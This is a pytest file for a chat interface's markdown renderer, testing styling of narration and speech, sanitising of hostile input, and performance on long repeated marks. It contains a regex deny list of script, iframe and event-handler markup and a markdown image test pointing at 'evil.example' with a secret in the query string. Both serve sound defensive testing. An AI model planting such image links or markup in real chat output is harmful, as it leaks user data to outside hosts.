"""Markdown becomes HTML that can do nothing, and prose is never lost."""

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.ui.chat.markdown import message_html
from tests.ui.hostile_texts import HOSTILE


def visible(html: str) -> str:
    import html as codec

    return codec.unescape(re.sub(r"<[^>]*>", "", html))


def test_narration_and_speech_have_their_classes() -> None:
    html = message_html("*She crouches.* “Vellum,” she says.")
    assert '<em class="narration">She crouches.</em>' in html
    assert '<span class="speech">“Vellum,”</span> she says.' in html


def test_emphasis_within_speech_stays_speech() -> None:
    html = message_html("“They *really* knew.”")
    assert '<em class="narration"><span class="speech">really</span></em>' in html


def test_single_newlines_are_kept() -> None:
    assert message_html("one\ntwo").count("<br>") == 1


def test_indented_and_underlined_prose_stays_prose() -> None:
    assert "<pre" not in message_html("    He walked on.")
    assert "<h" not in message_html("He walked on.\n---").replace("<hr", "")


def test_code_keeps_its_quotation_marks_uncoloured() -> None:
    assert "speech" not in message_html('`print("hi")`')


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts_become_harmless(text: str) -> None:
    html = message_html(text)
    assert not re.search(
        r"<(img|style|script|link|iframe|object|svg|video|audio|base|meta|form|input)\b", html
    )
    assert not re.search(r"\s(src|style|background|on\w+|srcset)\s*=", re.sub(r">[^<]*<", "><", html))
    for link in re.findall(r'href="([^"]*)"', html):
        assert link.startswith(("http://", "https://", "mailto:"))


def test_a_picture_becomes_its_words() -> None:
    assert "[a map]" in message_html("![a map](https://evil.example/?q=secret)")
    assert "evil.example" not in message_html("![a map](https://evil.example/?q=secret)")


def test_deep_nesting_and_big_tables_are_shown_as_text() -> None:
    deep = "\n".join("  " * depth + "- a" for depth in range(60))
    assert "<ul" not in message_html(deep)
    assert "<li" in message_html("- a\n  - b\n    - c")
    table = "|a|b|\n|-|-|\n" + "|c|d|\n" * 500
    assert "<table" not in message_html(table)
    assert "<table" in message_html("|a|b|\n|-|-|\n|c|d|\n")


WORD = st.text(alphabet="abcéß漢字ไทยक", min_size=1, max_size=8)


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.sampled_from(["“", "”", '"', "*", "**", "_", "`", "<b>", "&", "[", "]", "(", ")", "!"]) | WORD,
        max_size=40,
    )
)
def test_words_are_never_lost(pieces: list[str]) -> None:
    text = " ".join(pieces)
    shown = visible(message_html(text))
    words = [piece for piece in pieces if piece.isalpha() and piece.isprintable() and piece[0] not in "<"]
    assert all(word in shown for word in words)


@pytest.mark.parametrize(
    "unit",
    [
        "*",
        "_",
        "[",
        "`",
        "a*",
        "**a",
        "[a](",
        "> ",
        "- ",
        "1. ",
        "~~",
        "![",
        "\\",
        '"a" ',
        "<http://a>",
        "#",
        "```\n",
        "|a|b|\n",
    ],
)
def test_a_full_length_text_of_one_mark_takes_a_moment_only(unit: str) -> None:
    text = (unit * 50_000)[:50_000]
    begun_s = time.process_time()
    message_html(text)
    assert time.process_time() - begun_s < 1
